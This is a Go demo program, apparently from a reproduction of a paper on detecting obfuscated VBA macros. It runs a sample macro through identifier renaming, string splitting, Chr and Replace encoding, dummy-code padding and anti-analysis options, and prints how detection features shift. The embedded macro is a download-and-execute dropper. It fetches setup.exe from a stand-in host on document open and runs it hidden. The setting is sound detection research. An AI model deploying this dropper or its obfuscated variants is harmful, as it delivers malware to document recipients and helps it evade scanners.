@@ -1,0 +1,104 @@
+// Obfuscation tour: applies the paper's four obfuscation technique
+// families (Table I) to one macro step by step and shows how each moves
+// the V-feature vector — a live illustration of §III.B and Table IV.
+package main
+
+import (
+	"fmt"
+
+	"repro/internal/features"
+	"repro/internal/obfuscate"
+)
+
+const original = `Sub AutoOpen()
+    ' fetch the update package and launch it
+    Dim downloadURL As String
+    Dim localPath As String
+    downloadURL = "http://update-service.example/files/setup.exe"
+    localPath = "C:\Users\Public\setup.exe"
+    If URLDownloadToFile(0, downloadURL, localPath, 0, 0) = 0 Then
+        Shell localPath, vbHide
+    End If
+End Sub
+`
+
+func main() {
+	steps := []struct {
+		title string
+		opts  obfuscate.Options
+	}{
+		{"original", obfuscate.Options{Indent: obfuscate.IndentKeep}},
+		{"O1 random (identifier renaming)", obfuscate.Options{
+			Random: true, Indent: obfuscate.IndentKeep}},
+		{"O2 split (string partitioning)", obfuscate.Options{
+			Split: true, Indent: obfuscate.IndentKeep}},
+		{"O3 encoding (Chr chains)", obfuscate.Options{
+			Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1,
+			Indent: obfuscate.IndentKeep}},
+		{"O3 encoding (Replace trick)", obfuscate.Options{
+			Encode: true, Mode: obfuscate.EncodeReplace, EncodeFraction: 1,
+			Indent: obfuscate.IndentKeep}},
+		{"O3 encoding (custom decoder)", obfuscate.Options{
+			Encode: true, Mode: obfuscate.EncodeDecoder, EncodeFraction: 1,
+			Indent: obfuscate.IndentKeep}},
+		{"O4 logic (dummy code, pad to 1500)", obfuscate.Options{
+			Logic: true, TargetSize: 1500, Indent: obfuscate.IndentKeep}},
+		{"O1+O2+O3+O4 combined (crunch-std style)", obfuscate.Options{
+			Random: true, Split: true, Encode: true, Mode: obfuscate.EncodeReplace,
+			Logic: true, TargetSize: 3000, StripComments: true,
+			Indent: obfuscate.IndentKeep}},
+		{"anti-analysis: hidden strings + broken code", obfuscate.Options{
+			HideStrings: true, BrokenCode: true, Indent: obfuscate.IndentKeep}},
+	}
+
+	watch := []struct {
+		idx  int
+		name string
+	}{
+		{0, "V1 code chars"},
+		{4, "V5 string-op freq"},
+		{6, "V7 avg string len"},
+		{7, "V8 text-fn %"},
+		{12, "V13 entropy"},
+		{13, "V14 ident len avg"},
+	}
+
+	base := features.ExtractV(original)
+	for _, step := range steps {
+		step.opts.Seed = 7
+		out := obfuscate.Apply(original, step.opts)
+		v := features.ExtractV(out)
+		fmt.Printf("== %s (%d bytes) ==\n", step.title, len(out))
+		for _, w := range watch {
+			marker := " "
+			switch {
+			case v[w.idx] > base[w.idx]*1.15+1e-9:
+				marker = "^"
+			case v[w.idx] < base[w.idx]*0.85-1e-9:
+				marker = "v"
+			}
+			fmt.Printf("   %-20s %10.4f %s\n", w.name, v[w.idx], marker)
+		}
+		if step.title != "original" {
+			fmt.Println("   --- first lines ---")
+			printHead(out, 6)
+		}
+		fmt.Println()
+	}
+}
+
+func printHead(src string, n int) {
+	count := 0
+	start := 0
+	for i := 0; i <= len(src) && count < n; i++ {
+		if i == len(src) || src[i] == '\n' {
+			line := src[start:i]
+			if len(line) > 96 {
+				line = line[:96] + "..."
+			}
+			fmt.Println("   |", line)
+			start = i + 1
+			count++
+		}
+	}
+}
